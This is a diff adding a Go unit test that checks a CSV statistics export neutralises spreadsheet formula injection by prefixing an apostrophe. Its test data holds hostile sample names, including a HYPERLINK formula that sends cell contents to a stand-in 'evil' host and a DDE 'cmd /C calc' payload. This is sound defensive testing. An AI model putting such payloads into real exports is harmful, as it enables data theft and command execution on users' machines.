@@ -317,3 +317,53 @@ func (okProvider) Send(context.Context, broadcast.Outgoing) (string, error) { re
 func (okProvider) Lookup(context.Context, broadcast.Sender, string, time.Time) ([]broadcast.Sent, error) {
 	return nil, nil
 }
+
+// TestExportNeutralisesFormulas: names and error texts that a spreadsheet
+// would run as formulas are written with a leading apostrophe; the E.164
+// numbers are written as they are.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	st, id := fixture(t)
+	ctx := context.Background()
+	hostile := map[int]string{ // line of the export → the contact's name
+		1: `=HYPERLINK("http://evil/?x="&A3,"Refund")`,
+		2: "@SUM(A1:A9)",
+		3: "+cmd|' /C calc'!A0",
+		4: "-2+3",
+		5: "\t=1",
+		6: "\r=1",
+	}
+	for line, name := range hostile {
+		if _, err := st.DB().DB.ExecContext(ctx, `UPDATE contacts SET name = ? WHERE phone = ?`, name, "+1425555000"+string(rune('0'+line-1))); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := st.DB().DB.ExecContext(ctx, `UPDATE messages SET error_text = '=1+1' WHERE error_code = '30003'`); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := stats.Export(ctx, st, id, &buf); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for line, name := range hostile {
+		if got := recs[line][1]; got != "'"+name {
+			t.Errorf("line %d: name %q exported as %q, want it after an apostrophe", line, name, got)
+		}
+	}
+	if got := recs[4][5]; got != "'=1+1" {
+		t.Errorf("error text exported as %q", got)
+	}
+	for i, rec := range recs[1:] {
+		if rec[0] != "+1425555000"+string(rune('0'+i)) || rec[2] != "" && !strings.HasPrefix(rec[2], "+1206555010") {
+			t.Errorf("line %d: numbers exported as %q and %q, want them as they are", i+1, rec[0], rec[2])
+		}
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && j != 0 && j != 2 {
+				t.Errorf("line %d cell %d starts a formula: %q", i+1, j, cell)
+			}
+		}
+	}
+}
